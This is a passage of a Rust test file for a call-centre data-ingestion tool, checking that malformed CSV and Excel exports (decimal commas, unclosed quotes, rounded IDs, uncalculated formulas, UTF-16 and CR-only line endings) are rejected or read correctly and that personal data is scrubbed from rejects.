    // A decimal comma (`12,5` seconds, as a European export writes it) read with the comma
    // dropped would be 125 seconds: ten times too long, accepted without a word. Only commas
    // between groups of three digits are thousands separators.
    let ws = workspace(
        "",
        calls(&[
            "D1,2024-04-05 10:00:00,HSG,Answered,\"12,5\",60,Depot",
            "D2,2024-04-05 10:01:00,HSG,Answered,10,\"1,2\",Depot",
            "D3,2024-04-05 10:02:00,HSG,Answered,\"1.234,5\",60,Depot",
            "D4,2024-04-05 10:03:00,HSG,Answered,\"12,50\",60,Depot",
            "D5,2024-04-05 10:04:00,HSG,Answered,\"1,234\",\"1,234.5\",Depot",
            "D6,2024-04-05 10:05:00,HSG,Answered,12.5,60,Depot",
        ]),
    );
    ws.cex(&["ingest", "p.toml"]).assert_code(0);
    let mut rejected = reject_rows(&ws)?;
    rejected.sort();
    let bad = |column: &str, value: &str| ("bad_number".to_string(), column.into(), value.into());
    assert_eq!(
        rejected,
        vec![
            bad("Talk", "1,2"),
            bad("Wait", "1.234,5"),
            bad("Wait", "12,5"),
            bad("Wait", "12,50")
        ]
    );
    let seconds = |name: &str| lake_seconds(&ws, name);
    assert_eq!(seconds("wait_seconds")?, vec![Some(1234.0), Some(12.5)]);
    assert_eq!(seconds("handle_seconds")?, vec![Some(1234.5), Some(60.0)]);
    Ok(())
}

#[test]
fn hostile_clock_durations_need_two_digit_minutes_and_seconds_and_may_pass_a_day() -> TestResult {
    // `5:3` read as 5 minutes 3 seconds is a guess (5:03? 5:30?): not a duration. `25:00:00`
    // is one, over a day: judged against `max_duration_hours`, not called unreadable.
    let ws = workspace(
        "",
        calls(&[
            "K1,2024-04-05 10:00:00,HSG,Answered,0:05:03,1:02,Depot",
            "K2,2024-04-05 10:01:00,HSG,Answered,5:3,1:02,Depot",
            "K3,2024-04-05 10:02:00,HSG,Answered,0:05:03,25:00:00,Depot",
            "K4,2024-04-05 10:03:00,HSG,Answered,125:30,0:00:10.5,Depot",
            "K5,2024-04-05 10:04:00,HSG,Answered,1:60:00,1:02,Depot",
        ]),
    );
    ws.write(
        "p.toml",
        pipeline("", "").replace(
            "timestamp_formats",
            "durations = \"clock\"\ntimestamp_formats",
        ),
    );
    ws.cex(&["ingest", "p.toml"]).assert_code(0);
    let mut rejected = reject_rows(&ws)?;
    rejected.sort();
    assert_eq!(
        rejected,
        vec![
            ("bad_number".to_string(), "Wait".into(), "1:60:00".into()),
            ("bad_number".to_string(), "Wait".into(), "5:3".into()),
            (
                "implausible_duration".to_string(),
                "Talk".into(),
                "25:00:00".into()
            ),
        ]
    );
    let seconds = |name: &str| lake_seconds(&ws, name);
    assert_eq!(seconds("wait_seconds")?, vec![Some(303.0), Some(7530.0)]);
    assert_eq!(seconds("handle_seconds")?, vec![Some(62.0), Some(10.5)]);
    Ok(())
}

#[test]
fn hostile_a_header_ending_in_a_delimiter_loses_no_row_that_does_not() -> TestResult {
    // Some exports end the header line with a delimiter and the rows without one (or only
    // some rows): the unnamed column is empty, and a row one field short of the header lost
    // nothing. A row short of a named column is still the wrong shape.
    let csv = format!(
        "{},\n{}\n{}\n{}\n",
        HEADER.trim_end(),
        "T1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
        "T2,2024-04-05 10:01:00,HSG,Answered,11,61,Depot,",
        "T3,2024-04-05 10:02:00,HSG,Answered,12,62",
    );
    let ws = workspace("", csv);
    ws.cex(&["ingest", "p.toml"]).assert_code(0);
    assert_eq!(reasons(&ws)?, vec!["wrong_field_count"]);
    assert_eq!(sorted_keys(&ws), vec!["T1", "T2"]);
    let lake = ws
        .lake_table("contacts")
        .sort(["record_key"], Default::default())?;
    let location: Vec<Option<&str>> = lake.column("location")?.str()?.iter().collect();
    assert_eq!(location, vec![Some("Depot"), Some("Depot")]);
    Ok(())
}

#[test]
fn hostile_a_quote_never_closed_is_named_by_its_row_and_column() -> TestResult {
    let ws = workspace(
        "",
        calls(&[
            "Q1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
            "Q2,2024-04-05 10:01:00,\"HSG,Answered,10,60,Depot",
            "Q3,2024-04-05 10:02:00,HSG,Answered,10,60,Depot",
        ]),
    );
    for command in ["validate", "ingest"] {
        let out = ws.cex(&[command, "p.toml"]);
        out.assert_code(3);
        let line = line_with(&out.stderr, "never closed")?;
        assert!(
            line.contains("data/calls.csv") && line.contains("row 3") && line.contains("'Queue'"),
            "{line}"
        );
    }
    assert!(!ws.path().join("lake/contacts").exists());
    Ok(())
}

#[test]
fn hostile_a_record_id_sent_again_with_other_content_is_named_not_dropped_silently() -> TestResult {
    // Two calls under one id (an id reused, or a record corrected in a later export) used to be
    // one of them counted as a duplicate of the other, without a word: the second call lost.
    // The same row sent again is a plain duplicate; the same id with other content is
    // counted as a duplicate too (the first taken is kept) but named, by row and by the columns
    // it differs in from the row taken first, in a warning.
    let ws = workspace(
        "",
        calls(&[
            "C1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
            "C1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
            "C1,2024-04-05 10:00:00,HSG,Answered,10,75,Depot",
            "C2,2024-04-05 11:00:00,HSG,Answered,20,90,Depot",
        ]),
    );
    let first = ws.cex(&["ingest", "p.toml"]);
    first.assert_code(0);
    let line = line_with(&first.stdout, "other content")?;
    assert!(
        line.contains("data/calls.csv: 1 row (first: row 4, differing in handle_seconds) has"),
        "{line}"
    );
    assert_eq!(u64s(&ws.manifest(), "duplicates"), vec![2]);
    // A later export overlapping the first: C2 again as it was (a plain duplicate), C1 with
    // another wait (against the lake: a conflict) and a new call.
    ws.write(
        "data/calls2.csv",
        calls(&[
            "C2,2024-04-05 11:00:00,HSG,Answered,20,90,Depot",
            "C1,2024-04-05 10:00:00,HSG,Answered,12,60,Depot",
            "C3,2024-04-06 09:00:00,HSG,Answered,5,30,Depot",
        ]),
    );
    let second = ws.cex(&["ingest", "p.toml"]);
    second.assert_code(0);
    let line = line_with(&second.stdout, "other content")?;
    assert!(
        line.contains("calls2.csv: 1 row (first: row 3, differing in wait_seconds) has"),
        "{line}"
    );
    assert_eq!(second.stdout.matches("other content").count(), 1);
    assert_eq!(sorted_keys(&ws), vec!["C1", "C2", "C3"]);
    let lake = ws
        .lake_table("contacts")
        .sort(["record_key"], Default::default())?;
    let seconds: Vec<Option<f64>> = lake.column("wait_seconds")?.f64()?.iter().collect();
    assert_eq!(seconds, vec![Some(10.0), Some(20.0), Some(5.0)]);
    // An export sent again whole, or overlapping with the same rows: no warning.
    ws.write(
        "data/calls3.csv",
        calls(&[
            "C3,2024-04-06 09:00:00,HSG,Answered,5,30,Depot",
            "C4,2024-04-06 09:30:00,HSG,Answered,6,31,Depot",
        ]),
    );
    let third = ws.cex(&["ingest", "p.toml"]);
    third.assert_code(0);
    assert!(!third.stdout.contains("other content"), "{}", third.stdout);
    // The same id a month later in the same export: the row taken first is in another month's
    // staged file, and still found to name what differs.
    ws.write(
        "data/calls4.csv",
        calls(&[
            "C5,2024-04-07 09:00:00,HSG,Answered,5,30,Depot",
            "C5,2024-05-07 09:00:00,HSG,Answered,5,30,Depot",
        ]),
    );
    let fourth = ws.cex(&["ingest", "p.toml"]);
    fourth.assert_code(0);
    let line = line_with(&fourth.stdout, "other content")?;
    assert!(
        line.contains("calls4.csv: 1 row (first: row 3, differing in ")
            && line.contains("timestamp"),
        "{line}"
    );
    assert!(!line.contains("wait_seconds"), "{line}");
    Ok(())
}

#[test]
fn hostile_a_decimal_comma_export_is_read_when_the_source_says_so() -> TestResult {
    // A European export: semicolons between fields, a decimal comma, dots between thousands.
    let csv = "Call ID;Started;Queue;Result;Wait;Talk;Site\n\
        E1;2024-04-05 10:00:00;HSG;Answered;12,5;1.234,5;Depot\n\
        E2;2024-04-05 10:01:00;HSG;Answered;0,25;60;Depot\n\
        E3;2024-04-05 10:02:00;HSG;Answered;12.5;60;Depot\n\
        E4;2024-04-05 10:03:00;HSG;Answered;1.234;75;Depot\n";
    let ws = workspace("", csv);
    let european = pipeline("", "").replace(
        "timestamp_formats",
        "delimiter = \";\"\ndecimal_comma = true\ntimestamp_formats",
    );
    ws.write("p.toml", &european);
    ws.cex(&["ingest", "p.toml"]).assert_code(0);
    // A dot that groups no thousands is a decimal point where commas are expected: not guessed.
    assert_eq!(
        reject_rows(&ws)?,
        vec![("bad_number".to_string(), "Wait".into(), "12.5".into())]
    );
    let seconds = |name: &str| lake_seconds(&ws, name);
    assert_eq!(
        seconds("wait_seconds")?,
        vec![Some(12.5), Some(0.25), Some(1234.0)]
    );
    assert_eq!(
        seconds("handle_seconds")?,
        vec![Some(1234.5), Some(60.0), Some(75.0)]
    );
    // The rejects are written as the export is, with `;`: corrected, they are read as an export.
    let rejects = files_under(&ws.path().join("lake/rejects"), "csv");
    assert_eq!(rejects.len(), 1);
    let text = std::fs::read_to_string(&rejects[0])?;
    assert!(text.starts_with("Call ID;Started;"), "{text}");
    ws.write("data/corrected.csv", text.replace(";12.5;", ";12,5;"));
    ws.cex(&["ingest", "p.toml"]).assert_code(0);
    assert_eq!(sorted_keys(&ws), vec!["E1", "E2", "E3", "E4"]);
    // Without the key, the same export's decimal commas are refused, never read as whole numbers.
    let ws = workspace("", csv);
    ws.write("p.toml", european.replace("decimal_comma = true\n", ""));
    ws.cex(&["ingest", "p.toml"]).assert_code(0);
    let mut reasons = reasons(&ws)?;
    reasons.dedup();
    assert_eq!(reasons, vec!["bad_number"]);
    // A workbook's number cells are numbers: the key is refused there, naming it.
    ws.write("x.toml", european.replace("data/*.csv", "data/*.xlsx"));
    let out = ws.cex(&["validate", "x.toml"]);
    out.assert_code(2);
    line_with(&out.stderr, "decimal_comma")?;
    Ok(())
}

#[test]
fn hostile_a_record_id_a_spreadsheet_rounded_is_rejected_not_taken_for_a_duplicate() -> TestResult {
    // Long numeric call ids opened in a spreadsheet and saved come back as `1.23457E+17`: ids
    // that differ after the sixth digit all read the same, and every call but one would be
    // dropped as a duplicate of the first, counted but lost.
    let ws = workspace(
        "",
        calls(&[
            "123456789012345678,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
            "1.23457E+17,2024-04-05 10:01:00,HSG,Answered,11,61,Depot",
            "1.23457E+17,2024-04-06 11:00:00,Bins,Abandoned,12,0,Depot",
            "4.4E+11,2024-04-07 12:00:00,HSG,Answered,13,62,Depot",
            "1E5,2024-04-07 12:01:00,HSG,Answered,13,62,Depot",
        ]),
    );
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(0);
    let reasons = reasons(&ws)?;
    assert_eq!(reasons, vec!["rounded_record_id"; 3]);
    let manifest = ws.manifest();
    assert_eq!(u64s(&manifest, "duplicates"), vec![0]);
    assert_eq!(u64s(&manifest, "accepted"), vec![2]);
    assert!(out.stdout.contains("rounded_record_id=3"), "{}", out.stdout);
    Ok(())
}

/// A workbook at `data/visits.xlsx` whose sheets are `(name, rows)` under one header
/// (`Ticket`, `Arrived`, `Queue`, `Outcome`, `Wait`); `formula_wait` writes the first row's
/// wait as a formula with no saved value, as programs that do not calculate leave it.
fn workbook(ws: &Workspace, sheets: &[(&str, usize)], formula_wait: bool) -> TestResult {
    use rust_xlsxwriter::{Formula, Workbook};
    let mut wb = Workbook::new();
    for (name, rows) in sheets {
        let sheet = wb.add_worksheet();
        sheet.set_name(*name)?;
        for (j, h) in ["Ticket", "Arrived", "Queue", "Outcome", "Wait"]
            .iter()
            .enumerate()
        {
            sheet.write_string(0, j as u16, *h)?;
        }
        for i in 0..*rows {
            let r = i as u32 + 1;
            sheet.write_string(r, 0, format!("{name}-{i}"))?;
            sheet.write_string(r, 1, format!("2024-04-{:02} 10:00:00", i + 1))?;
            sheet.write_string(r, 2, "HSG")?;
            sheet.write_string(r, 3, "Answered")?;
            if formula_wait && i == 0 {
                sheet.write_formula(r, 4, Formula::new("=2+3"))?;
            } else {
                sheet.write_number(r, 4, 30.0)?;
            }
        }
    }
    std::fs::create_dir_all(ws.path().join("data"))?;
    let path = ws.path().join("data/visits.xlsx");
    wb.save(&path)?;
    if formula_wait {
        // rust_xlsxwriter saves 0 as every formula's value; a program that does not
        // calculate may save none at all.
        rewrite_workbook(&path, &[("</f><v>0</v>", "</f>")], &[])?;
    }
    Ok(())
}

/// A pipeline over `data/*.xlsx` (see [`workbook`]); `sheet` names the sheet to read.
fn workbook_pipeline(ws: &Workspace, sheet: Option<&str>) {
    let sheet = sheet
        .map(|s| format!("sheet = \"{s}\"\n"))
        .unwrap_or_default();
    ws.write(
        "p.toml",
        pipeline("", "")
            .replace(
                "files = \"data/*.csv\"\n",
                &format!("files = \"data/*.xlsx\"\n{sheet}"),
            )
            .replace("handle = \"Talk\"\nlocation = \"Site\"\n", "")
            .replace("record_id = \"Call ID\"", "record_id = \"Ticket\"")
            .replace("timestamp = \"Started\"", "timestamp = \"Arrived\"")
            .replace(
                "category = \"Queue\"\noutcome = \"Result\"",
                "category = \"Queue\"\noutcome = \"Outcome\"",
            ),
    );
    ws.write("queues.csv", QUEUES);
}

#[test]
fn hostile_a_workbook_with_a_month_per_sheet_is_refused_not_read_in_part() -> TestResult {
    // The first sheet is read when the source names none. A workbook with April on one tab
    // and May on the next would lose May's rows without a word: refused, naming the sheets,
    // until the source names the one to read.
    let ws = Workspace::new();
    workbook(
        &ws,
        &[("Apr 2024", 2), ("May 2024", 3), ("Notes", 0)],
        false,
    )?;
    workbook_pipeline(&ws, None);
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(3);
    let line = line_with(&out.stderr, "data/visits.xlsx")?;
    assert!(
        line.contains("sheet 'Apr 2024' is read, but 'May 2024' (3 rows) has the same columns"),
        "{line}"
    );
    assert!(
        line.contains("`sheet`") && !line.contains("Notes"),
        "{line}"
    );
    assert!(!ws.path().join("lake/manifest/_delta_log").exists());
    workbook_pipeline(&ws, Some("May 2024"));
    ws.cex(&["ingest", "p.toml"]).assert_code(0);
    assert_eq!(u64s(&ws.manifest(), "accepted"), vec![3]);
    Ok(())
}

#[test]
fn hostile_a_workbook_formula_with_no_saved_value_is_refused_not_read_as_blank() -> TestResult {
    // Programs that write workbooks without calculating them leave formulas with no value: a
    // wait written `=2+3` would read as blank, a call with no wait, accepted.
    let ws = Workspace::new();
    workbook(&ws, &[("Calls", 2)], true)?;
    workbook_pipeline(&ws, None);
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(3);
    let line = line_with(&out.stderr, "data/visits.xlsx")?;
    assert!(
        line.contains("sheet 'Calls' has formulas with no saved value (E2)"),
        "{line}"
    );
    assert!(!ws.path().join("lake/manifest/_delta_log").exists());
    // With its value saved, the same workbook is read.
    workbook(&ws, &[("Calls", 2)], false)?;
    ws.cex(&["ingest", "p.toml"]).assert_code(0);
    Ok(())
}

#[test]
fn hostile_a_workbook_never_calculated_is_refused_not_read_as_zeros() -> TestResult {
    // rust_xlsxwriter, XlsxWriter and openpyxl save a placeholder (0) as each formula's value
    // and mark the workbook to be calculated when opened: a wait written `=2+3` would read as 0.
    let ws = Workspace::new();
    workbook_pipeline(&ws, None);
    let write = |ws: &Workspace| -> TestResult {
        use rust_xlsxwriter::{Formula, Workbook};
        let mut wb = Workbook::new();
        let sheet = wb.add_worksheet();
        sheet.set_name("Calls")?;
        for (j, h) in ["Ticket", "Arrived", "Queue", "Outcome", "Wait"]
            .iter()
            .enumerate()
        {
            sheet.write_string(0, j as u16, *h)?;
        }
        for r in 1..3u32 {
            sheet.write_string(r, 0, format!("F-{r}"))?;
            sheet.write_string(r, 1, format!("2024-04-0{r} 10:00:00"))?;
            sheet.write_string(r, 2, "HSG")?;
            sheet.write_string(r, 3, "Answered")?;
            sheet.write_formula(r, 4, Formula::new("=2+3"))?;
        }
        std::fs::create_dir_all(ws.path().join("data"))?;
        wb.save(ws.path().join("data/visits.xlsx"))?;
        Ok(())
    };
    write(&ws)?;
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(3);
    let line = line_with(&out.stderr, "data/visits.xlsx")?;
    assert!(
        line.contains("sheet 'Calls' has formulas never calculated")
            && line.contains("(E2 and 1 more)"),
        "{line}"
    );
    assert!(!ws.path().join("lake/manifest/_delta_log").exists());
    // Calculated and saved by a spreadsheet program: the values are 5 and the flag is gone.
    rewrite_workbook(
        &ws.path().join("data/visits.xlsx"),
        &[("</f><v>0</v>", "</f><v>5</v>")],
        &[(" fullCalcOnLoad=\"1\"", "")],
    )?;
    ws.cex(&["ingest", "p.toml"]).assert_code(0);
    let lake = ws.lake_table("contacts");
    let waits: Vec<Option<f64>> = lake.column("wait_seconds")?.f64()?.iter().collect();
    assert_eq!(waits, vec![Some(5.0), Some(5.0)]);
    Ok(())
}

#[test]
fn hostile_rows_a_quote_left_open_joins_into_a_value_are_rejected_not_lost() -> TestResult {
    // An open quote in a site name that another quote closes three lines down: read as CSV,
    // the three calls between are text inside the first call's site, and the file reads as
    // two rows fewer than it has, every one "accepted". The row is rejected whole instead
    // (`joined_rows`, its text as exported), so the calls inside are seen. A site written over
    // two lines, without a row's worth of fields on either, is read as it should be.
    let ws = workspace(
        "",
        calls(&[
            "J1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
            "J2,2024-04-05 10:01:00,HSG,Answered,11,61,\"Town Hall",
            "J3,2024-04-05 10:02:00,HSG,Answered,12,62,Depot",
            "J4,2024-04-05 10:03:00,HSG,Answered,13,63,Library",
            "J5,2024-04-05 10:04:00,HSG,Answered,14,64,Depot 2\"",
            "J6,2024-04-05 10:05:00,HSG,Answered,15,65,\"Civic Centre,",
            "Floor 2, Room 4\"",
            "J7,2024-04-05 10:06:00,HSG,Answered,16,66,Depot",
        ]),
    );
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(0);
    let rejected = reject_rows(&ws)?;
    assert_eq!(rejected.len(), 1, "{rejected:?}");
    let (why, column, value) = &rejected[0];
    assert_eq!(
        (why.as_str(), column.as_str()),
        ("joined_rows", "(whole row)")
    );
    assert!(
        value.starts_with("J2,") && value.contains("\nJ3,") && value.contains("\nJ5,"),
        "{value}"
    );
    assert!(out.stdout.contains("joined_rows=1"), "{}", out.stdout);
    let lake = ws.lake_table("contacts");
    let sites: Vec<Option<String>> = strings(&lake, "location");
    assert_eq!(lake.height(), 3, "{sites:?}");
    assert!(
        sites.contains(&Some("Civic Centre,\nFloor 2, Room 4".to_string())),
        "{sites:?}"
    );
    Ok(())
}

#[test]
fn hostile_a_utf16_export_is_read_by_its_byte_order_mark() -> TestResult {
    // Excel's "Unicode Text" and some exporters write UTF-16 (little-endian, `FF FE` first).
    // Read as UTF-8 or Windows-1252 its header is `ÿþC\0a\0l\0l...` and every mapped column
    // "missing"; read by its byte order mark it is an export like any other.
    let text = calls(&[
        "U1,2024-04-05 10:00:00,HSG,Answered,10,60,Café Müller",
        "U2,2024-04-05 10:01:00,Bins,Abandoned,11,0,Depot",
    ]);
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let ws = workspace("", bytes);
    // And big-endian, `FE FF` first, beside it.
    let mut big = vec![0xFE, 0xFF];
    big.extend(
        calls(&["U3,2024-04-06 09:00:00,HSG,Answered,12,61,Depot"])
            .encode_utf16()
            .flat_map(u16::to_be_bytes),
    );
    ws.write("data/calls_be.csv", big);
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(0);
    let manifest = ws.manifest();
    let mut encodings: Vec<Option<String>> = strings(&manifest, "encoding");
    encodings.sort();
    assert_eq!(
        encodings,
        vec![Some("utf-16be".to_string()), Some("utf-16le".to_string())]
    );
    let lake = ws.lake_table("contacts");
    assert_eq!(lake.height(), 3);
    assert!(
        strings(&lake, "location").contains(&Some("Café Müller".to_string())),
        "{lake}"
    );
    // `cex init` reads it the same way, and writes no encoding the pipeline file cannot take.
    let init = ws.cex(&["init", "data/calls.csv", "--dir", "job"]);
    init.assert_code(0);
    let toml = std::fs::read_to_string(ws.path().join("job/pipeline.toml"))?;
    assert!(toml.contains("read as utf-16le"), "{toml}");
    assert!(!toml.contains("encoding ="), "{toml}");
    assert!(toml.contains("timestamp = \"Started\""), "{toml}");
    Ok(())
}

#[test]
fn hostile_lines_ended_by_cr_alone_are_read_as_lines() -> TestResult {
    // An export from an old program ends lines with CR alone: read by LF, the whole file was
    // its header, and every mapped column "missing".
    let text = calls(&[
        "R1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
        "R2,2024-04-05 10:01:00,Bins,Abandoned,11,0,Depot",
    ])
    .replace('\n', "\r");
    let ws = workspace("", text);
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(0);
    assert_eq!(u64s(&ws.manifest(), "accepted"), vec![2]);
    Ok(())
}

#[test]
fn hostile_rows_joined_by_an_open_quote_keep_no_personal_data() -> TestResult {
    // A note opened with a quote that closes three lines on: the rows between, with their
    // postcodes and numbers, are text inside it, and the whole record is kept in the rejects.
    // Any of its fields may hold what another row's note said, so it is scrubbed as a comment
    // is (never kept as exported), and neither `validate` nor the messages show it.
    let header = "Call ID,Started,Queue,Result,Wait,Talk,Site,Postcode,Notes";
    let personal = ["07700 900123", "OX1 2JD", "jo@example.org", "07700 900456"];
    let ws = Workspace::new();
    ws.write(
        "p.toml",
        pipeline("", "").replace(
            "location = \"Site\"",
            "location = \"Site\"\npostcode = \"Postcode\"\ncomment = \"Notes\"",
        ),
    );
    ws.write("queues.csv", QUEUES);
    ws.write(
        "data/calls.csv",
        format!(
            "{header}\n\
             J1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot,LS1 4AP,fine\n\
             J2,2024-04-05 10:01:00,HSG,Answered,10,60,Depot,LS1 4AP,\"call back\n\
             J3,2024-04-05 10:02:00,HSG,Answered,10,60,Depot,OX1 2JD,ring 07700 900123\n\
             J4,2024-04-05 10:03:00,HSG,Answered,10,60,Depot,OX1 2JD,jo@example.org or 07700 900456\"\n\
             J5,2024-04-05 10:04:00,HSG,Answered,10,60,Depot,LS1 4AP,fine\n"
        ),
    );
    let validate = ws.cex(&["validate", "p.toml"]);
    validate.assert_code(0);
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(0);
    assert_eq!(sorted_keys(&ws), ["J1", "J5"]);
    assert_eq!(reasons(&ws)?, ["joined_rows"]);
    let seen = rejects_text(&ws)?;
    assert!(seen.contains("J2") && seen.contains("J4"), "{seen}");
    assert_none_kept(&ws, &seen, &[&validate, &out], &personal);
    Ok(())
}
